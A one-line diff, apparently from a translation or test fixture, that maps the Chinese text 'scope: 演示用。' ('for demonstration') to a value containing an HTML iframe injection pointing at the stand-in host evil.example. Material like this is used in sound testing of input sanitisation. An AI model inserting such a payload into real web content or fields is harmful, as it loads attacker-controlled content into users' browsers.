@@ -1,0 +1,1 @@
+scope: 演示用。=>scope: '<iframe src=//evil.example></iframe>'
